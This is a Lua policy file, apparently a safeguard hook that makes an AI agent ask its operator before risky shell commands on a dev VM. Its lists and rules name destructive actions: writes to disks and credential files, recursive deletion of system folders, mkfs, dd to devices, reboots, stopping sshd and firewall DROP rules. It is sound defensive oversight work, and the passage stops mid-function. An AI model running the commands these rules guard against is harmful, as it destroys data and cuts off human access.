-- Asks the operator before a devvm_shell command that could destroy the
-- devvm's data, take it down, or cut the agent's own way in, and before any
-- command line whose commands the check cannot see. The owner chose
-- autonomy, so power verbs through the pve tool are not confirmed unless
-- confirm_power_verbs is true.
--
-- The line is read as bash reads it (policy/lib/shell.lua): quotes and
-- escapes removed; lists, pipelines, subshells and if/while/for/case split
-- into commands; sudo, su -c, env, nice, timeout, xargs, bash -c '...',
-- find -exec, watch, ssh and the like unwrapped to the command they run;
-- commands given in programs' own options read as lines too (ssh -o
-- ProxyCommand, git -c core.pager, tar --to-command, rsync -e, socat EXEC:,
-- nc -e, GIT_SSH_COMMAND=...); redirections, tee, sort -o and openssl -out
-- seen. Each command that would run is judged by the lists and rules
-- below, and each file written. A file that runs later (a unit, a cron
-- job, a login script) is a system file, and at, batch and crontab
-- reading jobs the line does not show ask.
--
-- It also asks whenever the line holds something that can run a command
-- the line does not show: $(...) or `...`, <(...), eval, source, a variable
-- or glob as a command name, a shell or interpreter reading commands from a
-- pipe or here-document, inline code (python -c, perl -e, awk system()),
-- aliases or functions defined in the line, or a command listed below
-- whose arguments are variables or come from xargs.
--
-- The lists are globs: "*" is one path component or part of one, "**" any
-- number of them, "?" one character, "[...]" one of a class; "~" is the
-- breakglass user's home folder. A false alarm costs one click; a miss can
-- cost the devvm, so the checks lean towards asking.

local confirm_power_verbs = false
local EXCERPT_MAX_CHARS = 200

-- Block devices and kernel memory: a write to one destroys data.
local DISKS = {"/dev/sd*", "/dev/vd*", "/dev/xvd*", "/dev/hd*", "/dev/nvme*", "/dev/mmcblk*",
               "/dev/dm-*", "/dev/md*", "/dev/zd*", "/dev/rbd*", "/dev/nbd*", "/dev/loop*",
               "/dev/mapper/**", "/dev/disk/**", "/dev/block/**", "/dev/root", "/dev/mem",
               "/dev/kmem", "/dev/port"}

-- Files whose overwrite or removal takes the devvm down or locks the agent
-- out: asked about when written (>, >>, tee, dd of=, cp, mv, truncate, ...)
-- or removed.
local SYSTEM_FILES = {"/proc/sysrq-trigger", "/sys/power/state", "/sys/power/disk",
                      "/sys/block/*/device/delete", "/sys/bus/**/remove", "/etc/passwd",
                      "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers",
                      "/etc/sudoers.d/**", "/etc/fstab", "/etc/crypttab", "/etc/pam.d/**",
                      "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/**", "/etc/nsswitch.conf",
                      -- A new host key: the agent refuses the devvm it no longer knows.
                      "/etc/ssh/ssh_host_*",
                      "/etc/ld.so.preload", "**/.ssh/authorized_keys", "**/.ssh/authorized_keys2",
                      "/boot/**", "/usr/bin/sudo", "/usr/sbin/sshd", "/bin/sudo", "/sbin/sshd",
                      "/usr/bin/bash", "/bin/bash", "/usr/bin/sh", "/bin/sh",
                      -- Commands written here run later, out of the check's sight:
                      -- cron and at jobs, units and their timers, boot and login
                      -- scripts, udev rules, the hooks of apt, ssh and git.
                      "/etc/cron*", "/etc/cron*/**", "/etc/anacrontab", "/var/spool/cron/**",
                      "/etc/rc.local", "/etc/init.d/**", "/etc/rc*.d/**",
                      "/etc/systemd/**", "/lib/systemd/**", "/usr/lib/systemd/**",
                      "/run/systemd/**", "/etc/xdg/systemd/**", "~/.config/systemd/**",
                      "/root/.config/systemd/**",
                      "/etc/udev/rules.d/**", "/lib/udev/rules.d/**", "/usr/lib/udev/rules.d/**",
                      "/etc/modprobe.d/**", "/etc/ld.so.conf", "/etc/ld.so.conf.d/**",
                      "/etc/update-motd.d/**", "/etc/apt/apt.conf.d/**",
                      "/etc/profile", "/etc/profile.d/**", "/etc/bash.bashrc",
                      "/etc/bash.bash_logout", "/etc/environment", "~/.bashrc", "~/.profile",
                      "~/.bash_profile", "~/.bash_login", "~/.bash_logout", "/root/.bashrc",
                      "/root/.profile", "/root/.bash_profile", "**/.ssh/rc", "**/.ssh/config",
                      "/etc/ssh/sshrc", "/etc/ssh/ssh_config", "/etc/ssh/ssh_config.d/**",
                      "~/.gitconfig", "~/.config/git/**", "/root/.gitconfig", "/etc/gitconfig"}

-- Folders that rm -r, chmod -R, chown -R, mv, rsync --delete and find
-- -delete must leave in place. "/*" is every top-level folder.
local SYSTEM_TREES = {"/", "/*", "/usr/*", "/usr/*/*", "/etc/*", "/var/lib", "/var/lib/*",
                      "/boot/*", "/home/*", "/root/.ssh", "~", "~/.ssh", "**/.ssh"}

-- Commands that always ask, whatever their arguments: they power the devvm
-- off or restart it, or erase by design. A name may be a glob (mkfs.*).
local ALWAYS = {
  reboot = "reboot restarts the devvm", poweroff = "poweroff powers the devvm off",
  halt = "halt stops the devvm", shutdown = "shutdown powers the devvm off or restarts it",
  kexec = "kexec replaces the running kernel", rtcwake = "rtcwake suspends or powers off",
  killall5 = "killall5 signals every process",
  ["mkfs.*"] = "mkfs makes a new file system", ["mk*fs"] = "it makes a new file system",
  wipefs = "wipefs erases signatures", blkdiscard = "blkdiscard discards a device",
  sg_format = "sg_format formats a disk",
  lvremove = "lvremove removes a logical volume", vgremove = "vgremove removes a volume group",
  pvremove = "pvremove removes a physical volume",
  lvreduce = "lvreduce shrinks a volume",
  userdel = "userdel removes a user", deluser = "deluser removes a user",
  groupdel = "groupdel removes a group", delgroup = "delgroup removes a group",
  ifdown = "ifdown takes a network interface down",
  rmmod = "rmmod unloads a driver (the network's, the disk's)",
  swapoff = "swapoff takes swap away, which can run the devvm out of memory",
}

-- systemctl verbs that power off, restart, suspend or switch the whole
-- system to another target.
local SYSTEMCTL_POWER = {reboot = true, poweroff = true, halt = true, kexec = true,
                         ["soft-reboot"] = true, emergency = true, rescue = true,
                         suspend = true, hibernate = true, ["hybrid-sleep"] = true,
                         ["suspend-then-hibernate"] = true, sleep = true, isolate = true,
                         default = true, exit = true, ["switch-root"] = true}
-- Units that power the devvm off or restart it when started; any verb but a
-- reading one asks.
local POWER_UNITS = {"reboot.target", "poweroff.target", "halt.target", "kexec.target",
                     "soft-reboot.target", "emergency.target", "rescue.target",
                     "ctrl-alt-del.target", "shutdown.target", "final.target", "exit.target",
                     "sleep.target", "suspend.target", "hibernate.target",
                     "hybrid-sleep.target", "suspend-then-hibernate.target",
                     "systemd-reboot.service", "systemd-poweroff.service",
                     "systemd-halt.service", "systemd-kexec.service",
                     "systemd-soft-reboot.service", "systemd-suspend.service",
                     "systemd-hibernate.service", "emergency.service", "rescue.service"}
-- systemctl verbs that only read.
local SYSTEMCTL_READ = {status = true, show = true, cat = true, help = true,
                        ["is-active"] = true, ["is-enabled"] = true, ["is-failed"] = true,
                        ["is-system-running"] = true, ["list-units"] = true,
                        ["list-unit-files"] = true, ["list-dependencies"] = true,
                        ["list-jobs"] = true, ["list-timers"] = true, ["list-sockets"] = true,
                        ["list-machines"] = true, ["list-automounts"] = true,
                        ["list-paths"] = true, ["show-environment"] = true,
                        ["get-default"] = true}
-- Units the devvm runs on, or the agent reaches it through: stopping one
-- takes it down or cuts the agent off.
local ACCESS_UNITS = {"ssh.service", "sshd.service", "ssh.socket", "sshd.socket",
                      "ssh@*.service", "sshd@*.service", "networking.service",
                      "systemd-networkd.service", "systemd-networkd.socket",
                      "NetworkManager.service", "dbus.service", "dbus.socket",
                      "systemd-logind.service", "init.scope", "-.slice", "system.slice",
                      "user.slice", "user@*.service"}
-- systemctl verbs that take a unit file's path and link it in.
local UNIT_FILE_VERBS = {link = true, enable = true, reenable = true, start = true,
                         restart = true}
-- systemctl (and service) verbs that stop a unit or keep it from starting.
local STOP_VERBS = {stop = true, kill = true, mask = true, disable = true, freeze = true}
-- loginctl verbs that power off, suspend or end the agent's sessions.
local LOGINCTL_ASK = {reboot = true, poweroff = true, halt = true, kexec = true,
                      suspend = true, hibernate = true, ["hybrid-sleep"] = true,
                      ["suspend-then-hibernate"] = true, ["kill-user"] = true,
                      ["terminate-user"] = true, ["kill-session"] = true,
                      ["terminate-session"] = true}
-- Processes whose end takes the devvm, or the agent's way in, with them
-- (names, and command lines for pkill -f).
local VITAL_PROCESSES = {"init", "systemd", "sshd", "/sbin/init", "/lib/systemd/systemd",
                         "/usr/lib/systemd/systemd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd"}
-- telinit / init runlevels that halt, reboot or leave multi-user.
local RUNLEVELS = {["0"] = true, ["1"] = true, ["6"] = true, s = true, S = true,
                   single = true, emergency = true, halt = true, reboot = true}
-- Partitioners, with the options that only read.
local PARTITIONERS = {fdisk = {["-l"] = true, ["--list"] = true},
                      sfdisk = {["-l"] = true, ["--list"] = true, ["-d"] = true,
                                ["--dump"] = true, ["-J"] = true, ["--json"] = true},
                      gdisk = {["-l"] = true}, cfdisk = {},
                      parted = {["-l"] = true, ["--list"] = true, print = true, p = true},
                      sgdisk = {["-p"] = true, ["--print"] = true, ["-v"] = true,
                                ["--verify"] = true, ["-i"] = true, ["--info"] = true}}

local shell = require("shell")
local args = require("args")

local listed, may_name, matches_any = args.listed, args.may_name, args.matches_any
local operands, has_word = args.operands, args.has_word

-- The lists above, indexed for matching.
DISKS, SYSTEM_FILES = args.list(DISKS), args.list(SYSTEM_FILES)
SYSTEM_TREES = args.list(SYSTEM_TREES)

local ALWAYS_GLOBS = {}
for name in pairs(ALWAYS) do
  if name:find("[*?[]") then
    ALWAYS_GLOBS[#ALWAYS_GLOBS + 1] = name
  end
end

-- Why writing to words[i] of c asks, or nil.
local function write_why(c, i)
  if may_name(c, i, DISKS) then
    return c.name .. " writes onto a disk"
  elseif may_name(c, i, SYSTEM_FILES) then
    return c.name .. " overwrites a system file"
  end
  return nil
end

-- The same for a path c names inside a word (dd of=PATH, curl -o PATH).
local function path_why(c, w, path)
  return write_why({name = c.name, cwd = c.cwd,
                    words = {{value = path, dynamic = w.dynamic, glob = w.glob}}}, 1)
end

-- An abbreviation of full, as ip and nmcli accept ("a" for "address"), and
-- as GNU tools accept of their long options ("--rec" for "--recursive").
local function abbreviates(word, full)
  return word ~= nil and #word > 0 and full:sub(1, #word) == word
end

--------------------------------------------------------------------------------
-- The rules: one function per command, returning why it asks, or nil.

local RULES = {}

-- rm, chmod, chown, chgrp: recursive on a system folder, or on a system
-- file (chmod and chown also on a system folder itself). Every operand is
-- checked: a mode or an owner names no path that matters.
local function tree_rule(recursive_flags)
  return function(c)
    local ops, opts = operands(c, nil, {from = true, reference = true})
    local recursive = false
    for flag in recursive_flags:gmatch("%S+") do
      recursive = recursive or opts[flag] ~= nil
    end
    for name in pairs(opts) do
      recursive = recursive or (#name > 1 and abbreviates(name, "recursive"))
    end
    if recursive and opts["no-preserve-root"] then
      return c.name .. " -r with --no-preserve-root"
    end
    for _, i in ipairs(ops) do
      if recursive and may_name(c, i, SYSTEM_TREES) then
        return c.name .. " -R of a system folder"
      elseif may_name(c, i, SYSTEM_FILES) or (c.name ~= "rm" and may_name(c, i, SYSTEM_TREES)) then
        return c.name .. " of a system file"
      end
    end
    return nil
  end
end

RULES.rm = tree_rule("r R recursive")
RULES.chmod = tree_rule("R recursive")
RULES.chown = tree_rule("R recursive")
RULES.chgrp = tree_rule("R recursive")
RULES.unlink = RULES.rm

-- The options of cp, mv, install and ln that take a value, and rsync's:
-- rsync -t, -o and -g are flags, where the others' take the next word.
local COPIER_ARGS = {short = "tSmoge", long = {["target-directory"] = true, suffix = true,
                                              mode = true, owner = true, group = true}}
local RSYNC_ARGS = {short = "efBTM@",
                    long = {rsh = true, filter = true, exclude = true, include = true,
                            ["exclude-from"] = true, ["include-from"] = true,
                            ["files-from"] = true, ["backup-dir"] = true, suffix = true,
                            ["temp-dir"] = true, ["compare-dest"] = true, ["copy-dest"] = true,
                            ["link-dest"] = true, ["partial-dir"] = true, chmod = true,
                            chown = true, usermap = true, groupmap = true,
                            ["rsync-path"] = true, ["log-file"] = true,
                            ["out-format"] = true, ["password-file"] = true}}

-- A copier's operands and options, and the folder it copies into (-t)
-- or nil, where the last operand is the destination.
local function copy_operands(c)
  local spec = c.name == "rsync" and RSYNC_ARGS or COPIER_ARGS
  local ops, opts = operands(c, spec.short, spec.long)
  local target = c.name ~= "rsync" and (opts.t or opts["target-directory"]) or nil
  return ops, opts, type(target) == "string" and target or nil
end

-- cp, mv, install, ln, rsync: the destination is written, and so is each
-- source's name inside it when it is a folder (cp /tmp/passwd /etc); mv
-- also takes its sources away; ln gives a disk or a system file another
-- name, which a later write would go through.
local function copy_rule(c)
  local ops, opts, target = copy_operands(c)
  local dest = not target and ops[#ops] or nil
  local why = dest and write_why(c, dest)
  if why then
    return why
  end
  if target and (listed(target, DISKS) or listed(target, SYSTEM_FILES)) then
    return c.name .. " writes into a disk or a system file"
  end
  local folder = target or (dest and c.argv[dest])
  for k = 1, folder and (target and #ops or #ops - 1) or 0 do
    local w = c.words[ops[k]]
    local name = c.argv[ops[k]]:gsub("/+$", ""):match("[^/]*$")
    if name ~= "" and path_why(c, w, folder .. "/" .. name) then
      return c.name .. " writes a system file into " .. folder
    end
  end
  if c.name == "rsync" and dest then
    for name in pairs(opts) do
      if type(name) == "string" and (name == "del" or name:find("^delete"))
          and may_name(c, dest, SYSTEM_TREES) then
        return "rsync --delete into a system folder"
      end
    end
  end
  for k = 1, c.name == "ln" and #ops or 0 do
    if write_why(c, ops[k]) then
      return "ln makes another name for a disk or a system file"
    end
  end
  if c.name == "mv" or (c.name == "rsync" and opts["remove-source-files"]) then
    for k = 1, #ops do
      if ops[k] ~= dest and (may_name(c, ops[k], SYSTEM_TREES)
          or may_name(c, ops[k], SYSTEM_FILES)) then
        return c.name .. " moves a system folder or file away"
      end
    end
  end
  return nil
end
RULES.cp, RULES.mv, RULES.install, RULES.ln, RULES.rsync = copy_rule, copy_rule, copy_rule,
    copy_rule, copy_rule

-- Commands that overwrite each file they are given; short_args and
-- long_args are their options that take a value.
local function overwrite_rule(short_args, long_args)
  return function(c)
    local ops = operands(c, short_args, long_args)
    for _, i in ipairs(ops) do
      local why = write_why(c, i)
      if why then
        return why
      end
    end
    return nil
  end
end
RULES.shred = overwrite_rule("ns", {iterations = true, size = true, ["random-source"] = true})
RULES.truncate = overwrite_rule("sr", {size = true, reference = true})
RULES.sponge = overwrite_rule()
RULES.mkswap = overwrite_rule("LUpe", {label = true, uuid = true, pagesize = true,
                                       endianness = true})

-- sed -i[SUFFIX] (--in-place[=SUFFIX]) rewrites each file it is given. The
-- suffix is attached to -i, so sed's options are read here as sed reads
-- them; every operand is checked, the script too.
RULES.sed = function(c)
  local in_place, files, done = false, {}, false
  local i = 2
  while i <= #c.argv do
    local a = c.argv[i]
    if done or a == "-" or a:sub(1, 1) ~= "-" or c.words[i].dynamic then
      files[#files + 1] = i
    elseif a == "--" then
      done = true
    elseif a:sub(1, 2) == "--" then
      local name, value = a:match("^%-%-([^=]*)(=?)")
      if abbreviates(name, "in-place") then
        in_place = true
      elseif value == "" and (abbreviates(name, "expression") or abbreviates(name, "file")
                              or abbreviates(name, "line-length")) then
        i = i + 1
      end
    else
      for p = 2, #a do
        local ch = a:sub(p, p)
        if ch == "i" or ch == "e" or ch == "f" or ch == "l" then
          in_place = in_place or ch == "i"
          if ch ~= "i" and p == #a then
            i = i + 1
          end
          break
        end
      end
    end
    i = i + 1
  end
  for _, k in ipairs(in_place and files or {}) do
    local why = write_why(c, k)
    if why then
      return why
    end
  end
  return nil
end

RULES.dd = function(c)
  for i = 2, #c.argv do
    if c.argv[i]:sub(1, 3) == "of=" then
      local why = path_why(c, c.words[i], c.argv[i]:sub(4))
      if why then
        return why
      end
    end
  end
  return nil
end

for name, readonly in pairs(PARTITIONERS) do
  RULES[name] = function(c)
    for i = 2, #c.argv do
      if readonly[c.argv[i]] then
        return false
      end
    end
    for i = 2, #c.argv do
      if may_name(c, i, DISKS) then
        return name .. " changes a partition table"
      end
    end
    return nil
  end
end

RULES.systemctl = function(c)
  local ops = operands(c, "tpsHMno", {type = true, property = true, state = true, signal = true,
                                      host = true, machine = true, lines = true, output = true,
                                      ["job-mode"] = true, ["kill-whom"] = true,
                                      ["kill-value"] = true, root = true, what = true,
                                      ["reboot-argument"] = true, when = true, message = true,
                                      timestamp = true, ["boot-loader-entry"] = true,
                                      ["boot-loader-menu"] = true, ["preset-mode"] = true,
                                      image = true, ["check-inhibitors"] = true})
  local verb = c.argv[ops[1] or #c.argv + 1]
  if verb == nil then
    return nil
  elseif SYSTEMCTL_READ[verb] and not c.words[ops[1]].dynamic then
    return false
  elseif SYSTEMCTL_POWER[verb] then
    return "systemctl " .. verb .. " powers the devvm off or switches its target"
  elseif verb == "edit" and has_word(c, {["--stdin"] = true}) then
    return "systemctl edit --stdin writes a unit file"
  end
  for k = 2, #ops do
    local unit = c.argv[ops[k]]
    if not unit:find("%.%a+$") and not unit:find("[*?[]") then
      unit = unit .. ".service"
    end
    -- A unit file by its path is linked into the unit folders: it runs
    -- later, from wherever the line wrote it.
    if UNIT_FILE_VERBS[verb] and c.argv[ops[k]]:find("/", 1, true) then
      return "systemctl " .. verb .. " installs a unit file from " .. c.argv[ops[k]]
    end
    if matches_any(unit, POWER_UNITS, true) then
      return "systemctl " .. verb .. " of a unit that powers the devvm off or restarts it"
    end
    if STOP_VERBS[verb] and matches_any(unit, ACCESS_UNITS, true) then
      return "systemctl " .. verb .. " of a service the agent reaches the devvm through"
    end
  end
  return nil
end

RULES.service = function(c)
  local unit, verb = c.argv[2], c.argv[3]
  if unit and verb and STOP_VERBS[verb] and matches_any(unit .. ".service", ACCESS_UNITS, true) then
    return "service " .. verb .. " of a service the agent reaches the devvm through"
  end
  return nil
end
RULES["invoke-rc.d"] = RULES.service

RULES.loginctl = function(c)
  local ops = operands(c, "pHMnos", {property = true, host = true, machine = true, lines = true,
                                     output = true, signal = true, ["kill-whom"] = true})
  local verb = c.argv[ops[1] or #c.argv + 1]
  if verb and LOGINCTL_ASK[verb] then
    return "loginctl " .. verb
  end
  return nil
end

local function runlevel_rule(c)
  local ops = operands(c)
  local level = c.argv[ops[1] or #c.argv + 1]
  if level and RUNLEVELS[level] then
    return c.name .. " " .. level .. " halts or restarts the devvm or leaves multi-user mode"
  end
  return nil
end
RULES.init, RULES.telinit = runlevel_rule, runlevel_rule

RULES.kill = function(c)
  local i = 2
  local a = c.argv[i]
  if a == "-l" or a == "-L" or a == "--list" or a == "--table" or a == "-p" or a == "--pid" then
    return false
  end
  if a == "-s" or a == "-n" or a == "--signal" or a == "-q" or a == "--queue" then
    i = i + 2
  elseif a and a:find("^%-%-?%w") then
    i = i + 1
  end
  if c.argv[i] == "--" then
    i = i + 1
  end
  for k = i, #c.argv do
    local pid = math.tointeger(tonumber(c.argv[k])) -- kill reads 01 as 1
    if pid == 1 or pid == -1 or c.words[k].glob then
      return "kill of " .. (pid == -1 and "every process" or "PID 1 (init)")
    end
  end
  return nil
end

-- A pkill pattern (an extended regular expression) as a Lua pattern, or nil
-- when it uses more than the check can follow.
local function regex_pattern(re)
  if re:find("[^%w_%.%-%^%$%*%+%?/: ]") then
    return nil
  end
  return (re:gsub("%-", "%%-"))
end

-- Signal names pkill and killall take as an option of their own (-STOP,
-- -sigkill, -9), before the options they parse.
local SIGNALS = {}
for name in ("HUP INT QUIT ILL TRAP ABRT IOT BUS FPE KILL USR1 SEGV USR2 PIPE ALRM TERM "
             .. "STKFLT CHLD CLD CONT STOP TSTP TTIN TTOU URG XCPU XFSZ VTALRM PROF WINCH IO "
             .. "POLL PWR SYS RTMIN RTMAX"):gmatch("%S+") do
  SIGNALS[name] = true
end

-- c without its first -SIGNAL word, which would otherwise read as a run of
-- short options: in -STOP, P would take the process name as its value.
local function without_signal(c)
  for i = 2, #c.argv do
    local a = c.argv[i]
    if a == "--" then
      break
    end
    local name = a:match("^%-(%w[%w+-]*)$")
    name = name and name:upper():gsub("^SIG", ""):gsub("[+-]%d+$", "")
    if name and (SIGNALS[name] or name:find("^%d+$")) then
      local argv, words = {}, {}
      for k = 1, #c.argv do
        if k ~= i then
          argv[#argv + 1], words[#words + 1] = c.argv[k], c.words[k]
        end
      end
      return {name = c.name, argv = argv, words = words, cwd = c.cwd, via = c.via}
    end
  end
  return c
end

local function pkill_rule(c)
  c = without_signal(c)
  local ops, opts = operands(c, c.name == "killall" and "suoynZ" or "sugUGPtF",
                             {signal = true, euid = true, uid = true, pgroup = true,
                              group = true, parent = true, terminal = true, pidfile = true,
                              ns = true, nslist = true, session = true, user = true,
                              ["older-than"] = true, ["younger-than"] = true, context = true})
  -- Every process of a user, of root or of the agent's own (its shell,
  -- its sshd), whatever the check knows of who runs what.
  for _, key in ipairs({"u", "U", "euid", "uid", "user", "G", "group", "g", "pgroup", "s",
                        "session"}) do
    local who = not (c.name == "killall" and key == "s") and opts[key]
    if type(who) == "string" and (#ops == 0 or who:find("^root") or who:find("^0")) then
      return c.name .. " of every process of " .. who
    end
  end
  if c.name ~= "killall" and (opts.v or opts.inverse) then
    return c.name .. " -v signals every process but the ones it names"
  end
  local parent = opts.P or opts.parent
  if type(parent) == "string" and (parent:find("^0*[01]$") or parent:find(",0*[01]$")
      or parent:find("^0*[01],") or parent:find(",0*[01],")) then
    return c.name .. " -P " .. parent .. ": every child of init"
  end
  local exact = c.name == "killall" and not (opts.r or opts.regexp)
  for _, i in ipairs(ops) do
    local name = c.argv[i]
    local pattern = regex_pattern(name)
    for _, vital in ipairs(VITAL_PROCESSES) do
      local base = vital:match("[^/ ]*$")
      if c.words[i].glob or (exact and (name == vital or name:match("[^/]*$") == base))
          or (not exact and (pattern == nil or vital:find(pattern))) then
        return c.name .. " of " .. base .. ", which the devvm or the agent's way in needs"
      end
    end
  end
  return nil
end
RULES.pkill, RULES.killall, RULES.skill = pkill_rule, pkill_rule, pkill_rule

RULES.ip = function(c)
  local ops = operands(c, "nbfl", {netns = true, batch = true, family = true, loops = true})
  local object, command = c.argv[ops[1] or 0], c.argv[ops[2] or 0]
  if abbreviates(object, "link") and (abbreviates(command, "delete")
      or (abbreviates(command, "set") and has_word(c, {down = true}))) then
    return "ip link takes a network interface down"
  end
  if (abbreviates(object, "address") or abbreviates(object, "route"))
      and (abbreviates(command, "delete") or abbreviates(command, "flush"))
      and not has_word(c, {cache = true}) then
    return "ip " .. object .. " " .. command .. " removes the devvm's addresses or routes"
  end
  return nil
end

-- ifconfig IFACE shows, ifconfig IFACE up brings up; any other word after
-- the interface (an address, down, netmask, del) changes it.
RULES.ifconfig = function(c)
  local ops = operands(c)
  for k = 2, #ops do
    if c.argv[ops[k]] ~= "up" then
      return "ifconfig changes or takes down a network interface"
    end
  end
  return nil
end

RULES.nmcli = function(c)
  local ops = operands(c, "fgmwe", {fields = true, ["get-values"] = true, mode = true,
                                    wait = true, escape = true, colors = true})
  local object, verb = c.argv[ops[1] or 0], c.argv[ops[2] or 0]
  if (abbreviates(object, "networking") and verb == "off")
      or (abbreviates(object, "connection") and (abbreviates(verb, "down")
                                                 or abbreviates(verb, "delete")))
      or (abbreviates(object, "radio") and has_word(c, {off = true}))
      or (abbreviates(object, "device") and (abbreviates(verb, "disconnect")
                                             or abbreviates(verb, "down"))) then
    return "nmcli takes the devvm's network down"
  end
  return nil
end

-- A firewall that drops what the agent sends or receives cuts it off: a
-- DROP policy, a DROP or REJECT rule on INPUT or OUTPUT, or a flush (which
-- leaves a DROP policy alone in force).
local function iptables_rule(c)
  local ops, opts = operands(c, "PAIjtsdiopD", {policy = true, append = true, insert = true,
                                               jump = true, table = true, delete = true})
  local policy = opts.P or opts.policy
  local target = c.argv[ops[1] or 0]
  if type(policy) == "string" and (policy == "INPUT" or policy == "OUTPUT")
      and (target == "DROP" or target == "REJECT") then
    return c.name .. " -P " .. policy .. " " .. target .. " can cut the agent off"
  end
  local chain = opts.A or opts.append or opts.I or opts.insert
  local jump = opts.j or opts.jump
  if (chain == "INPUT" or chain == "OUTPUT") and (jump == "DROP" or jump == "REJECT") then
    return c.name .. " drops traffic on " .. chain .. ", which can cut the agent off"
  end
  if opts.F or opts.flush then
    return c.name .. " -F leaves only the chains' policies, which can cut the agent off"
  end
  return nil
end
RULES.iptables, RULES.ip6tables = iptables_rule, iptables_rule

RULES.nft = function(c)
  if has_word(c, {drop = true, reject = true, policy = true, ["drop;"] = true}) then
    return "nft drops traffic, which can cut the agent off"
  end
  return nil
end

RULES.ufw = function(c)
  local ops = operands(c)
  local verb = c.argv[ops[1] or 0]
  if verb == "enable" or verb == "reset" or verb == "deny" or verb == "reject"
      or verb == "default" then
    return "ufw " .. verb .. " can cut the agent off"
  end
  return nil
end

RULES.crontab = function(c)
  local _, opts = operands(c, "u")
  if opts.r then
    return "crontab -r removes every cron job"
  end
  return nil
end

-- Each account tool with its own options: short_args and long_args take a
-- value, asks lists the options that can lock the agent out. A flag read
-- as taking a value would swallow the option after it (passwd -u -l).
local function account_rule(short_args, long_args, asks)
  return function(c)
    local _, opts = operands(c, short_args, long_args)
    for key in pairs(opts) do
      for _, option in ipairs(asks) do
        local long = #option > 1
        if (key == option or (long and #key > 1 and abbreviates(key, option)))
            and not ((option == "G" or option == "groups") and (opts.a or opts.append)) then
          return c.name .. " -" .. (long and "-" or "") .. option .. " can lock the agent out"
        end
      end
    end
    return nil
  end
end
RULES.usermod = account_rule("cdefgGlpsuRPZvVwW",
                             {comment = true, home = true, expiredate = true, inactive = true,
                              gid = true, groups = true, login = true, password = true,
                              shell = true, uid = true, root = true, prefix = true,
                              selinux_user = true, ["add-subuids"] = true,
                              ["del-subuids"] = true, ["add-subgids"] = true,
                              ["del-subgids"] = true},
                             {"L", "lock", "e", "expiredate", "s", "shell", "G", "groups", "l",
                              "login", "p", "password", "u", "uid", "d", "home", "m",
                              "move-home"})
RULES.passwd = account_rule("nxwirRP", {mindays = true, maxdays = true, warndays = true,
                                        inactive = true, repository = true, root = true,
                                        prefix = true},
                            {"l", "lock", "d", "delete", "e", "expire", "x", "maxdays"})
RULES.gpasswd = account_rule("adMAQ", {add = true, delete = true, members = true,
                                       administrators = true, root = true},
                             {"d", "delete", "M", "members"})
RULES.chage = account_rule("dEImMWRP", {lastday = true, expiredate = true, inactive = true,
                                        mindays = true, maxdays = true, warndays = true,
                                        root = true, prefix = true},
                           {"E", "expiredate", "I", "inactive", "d", "lastday", "M", "maxdays"})

RULES.find = function(c)
  if not has_word(c, {["-delete"] = true}) then
    return nil
  end
  for i = 2, #c.argv do
    local a = c.argv[i]
    if a:sub(1, 1) == "-" or a == "(" or a == "!" then
      break
    end
    if may_name(c, i, SYSTEM_TREES) then
      return "find -delete in a system folder"
    end
  end
  return nil
end

local function bus_rule(c)
  local text = table.concat(c.argv, " ", 2):lower()
  for _, word in ipairs({"reboot", "poweroff", "halt", "kexec", "suspend", "hibernate",
                         "isolate", "startunit", "stopunit", "killunit"}) do
    if text:find(word, 1, true) then
      return c.name .. " calls " .. word
    end
  end
  return nil
end
RULES.busctl, RULES["dbus-send"], RULES.gdbus, RULES.qdbus = bus_rule, bus_rule, bus_rule,
    bus_rule

-- Downloads written onto a disk or a system file.
-- The short options of curl and of wget that take a value: the same
-- letter can be a flag in one (curl -O, wget -r) and take a value in the
-- other, and a flag read as taking one swallows the word after it.
local DOWNLOAD_ARGS = {curl = "AbcCdDeEFHKmoPQrTtuUwxXyYz", wget = "oaeiBtOTwQPlARDIXU"}

-- The files curl or wget c writes its download to.
local function download_targets(c)
  local _, opts = operands(c, DOWNLOAD_ARGS[c.name], {output = true,
                           ["output-document"] = true, header = true, data = true,
                           request = true, ["user-agent"] = true, user = true})
  local targets = {}
  for _, key in ipairs({"o", "O", "output", "output-document"}) do
    if type(opts[key]) == "string" then
      targets[#targets + 1] = opts[key]
    end
  end
  return targets
end

local function download_rule(c)
  for _, target in ipairs(download_targets(c)) do
    if path_why(c, {}, target) then
      return c.name .. " writes its download onto a disk or a system file"
    end
  end
  return nil
end
RULES.curl, RULES.wget = download_rule, download_rule

RULES.modprobe = function(c)
  if has_word(c, {["-r"] = true, ["--remove"] = true, ["-rf"] = true}) then
    return "modprobe -r unloads a driver (the network's, the disk's)"
  end
  return nil
end

RULES.zpool = function(c)
  if c.argv[2] == "destroy" or c.argv[2] == "labelclear" then
    return "zpool " .. c.argv[2]
  end
  return nil
end
RULES.zfs = function(c)
  if c.argv[2] == "destroy" then
    return "zfs destroy"
  end
  return nil
end
RULES.cryptsetup = function(c)
  if has_word(c, {luksFormat = true, erase = true, luksErase = true, reencrypt = true}) then
    return "cryptsetup erases or rewrites an encrypted device"
  end
  return nil
end
RULES.nvme = function(c)
  if has_word(c, {format = true, sanitize = true, ["delete-ns"] = true}) then
    return "nvme erases a namespace"
  end
  return nil
end
RULES.mdadm = function(c)
  if has_word(c, {["--zero-superblock"] = true}) then
    return "mdadm --zero-superblock"
  end
  return nil
end
RULES.hdparm = function(c)
  for i = 2, #c.argv do
    if c.argv[i]:find("^%-%-security%-erase") or c.argv[i] == "--trim-sector-ranges"
        or c.argv[i] == "--write-sector" or c.argv[i] == "--make-bad-sector" then
      return "hdparm " .. c.argv[i]
    end
  end
  return nil
end
RULES.badblocks = function(c)
  if has_word(c, {["-w"] = true}) then
    return "badblocks -w overwrites a disk"
  end
  return nil
end
RULES.efibootmgr = function(c)
  if has_word(c, {["-B"] = true, ["--delete-bootnum"] = true}) then
    return "efibootmgr removes a boot entry"
  end
  return nil
end

-- Package managers' verbs that remove packages (the upgrades too, when
-- they must), and the options of theirs that take a value.
local APT_REMOVE = {remove = true, purge = true, autoremove = true, autopurge = true,
                    ["dist-upgrade"] = true, ["full-upgrade"] = true, ["auto-remove"] = true}
local function apt_rule(c)
  local ops = operands(c, "oct", {option = true, config = true, ["target-release"] = true,
                                  ["default-release"] = true})
  local verb = c.argv[ops[1] or 0]
  if verb and APT_REMOVE[verb] then
    return c.name .. " " .. verb .. " removes packages"
  end
  -- apt-get install pkg- removes pkg.
  for k = 2, verb == "install" and #ops or 0 do
